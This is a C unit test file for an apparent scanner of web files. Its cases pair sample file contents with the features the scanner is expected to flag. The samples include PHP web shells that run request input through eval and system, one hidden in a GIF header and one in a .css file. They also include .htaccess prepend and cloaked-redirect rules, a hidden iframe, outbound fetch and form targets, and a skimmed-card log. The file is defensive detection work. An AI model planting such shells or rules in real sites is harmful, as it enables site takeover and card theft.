/* Pages, settings of servers, other kinds. */
#include "look.h"

static const struct look_case cases[] = {
    {"a card form", "a.html",
     "<form action=\"/pay\"><input name=\"card_no\" autocomplete=\"cc-number\"><input "
     "id=\"security_code\"></form>",
     "{\"card_input\":2,\"card_word\":2}", "html"},
    {"scripts", "a.html",
     "<script src=\"https://host-one.net/a.js\"></script><script "
     "src=\"/b.js\"></script><script>eval(x)</script><script "
     "type=\"application/json\">{\"eval(\":1}</script>",
     "{\"eval_code\":1,\"hosts\":1,\"script_external\":1,\"script_inline\":1}", "html"},
    {"a hidden frame and a form elsewhere", "a.html",
     "<iframe src=\"https://host-one.net/\" style=\"display:none\"></iframe><form "
     "action=\"https://host-two.net/p\"></form><a onclick=\"x()\">",
     "{\"event_attribute\":1,\"form_external\":1,\"frame_external\":1,\"frame_hidden\":1,"
     "\"frame_tag\":1,\"hosts\":2}",
     "html"},
    {"a page between PHP", "a.php",
     "<script>var a = <?= json_encode($x) ?>; fetch(\"https://host-one.net/\" + a);</script>",
     "{\"hosts\":1,\"net_out\":1,\"php_code\":1,\"script_inline\":1}", "php"},
    {"Apache settings", ".htaccess",
     "# no\n"
     "AddType application/x-httpd-php .jpg\n"
     "SetHandler \"php-script\"\n"
     "php_value auto_prepend_file \"/tmp/x.php\"\n"
     "php_flag display_errors off\n"
     "RewriteCond %{HTTP_USER_AGENT} google\n"
     "RewriteRule ^(.*)$ https://host-one.net/$1 [R]\n"
     "RewriteRule ^ https://%{HTTP_HOST}/ [R]\n"
     "Require all granted\n",
     "{\"access_open\":1,\"error_hide\":1,\"handler_php\":2,\"hosts\":1,\"php_setting\":1,"
     "\"prepend_file\":1,\"rewrite_external\":1,\"visitor_test\":1}",
     "htaccess"},
    {"PHP settings", ".user.ini",
     "; x\n"
     "auto_prepend_file = \"img/x.png\"\n"
     "memory_limit=128M\n",
     "{\"php_setting\":1,\"prepend_file\":1}", "ini"},
    {"text with PHP in it", "notes.txt", "hello <?php eval($_POST[1]); ?>",
     "{\"code_in_data\":1,\"eval_code\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}",
     "text"},
    {"PHP in disguise", "logo.css", "<?php eval($_POST[1]);",
     "{\"eval_code\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
    {"JavaScript in disguise", "logo.dat",
     "var a = 1; function f() { return document.cookie; } window.x = f;", "{}", "js"},
    {"collected cards", "x.log",
     "4111111111111111|12|29|123\n"
     "5555555555554444|01|30|999\n"
     "4111111111111112\n",
     "{\"card_data\":2}", "text"},
    {"an empty file", "a.php", "", "{}", "empty"},
    {"a shell script", "run",
     "#!/bin/sh\n"
     "echo hi\n",
     "{}", "script"},
    {"GIF in name only", "a.gif", "GIF89a;<?php system($_GET[\"c\"]);",
     "{\"code_in_image\":1,\"image_broken\":1,\"php_code\":1,\"request_read\":1,\"request_"
     "run\":1,\"shell_run\":1}",
     "image"},
};

static void test_page(void **state)
{
	(void)state;
	LOOK_CHECK(cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_page)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
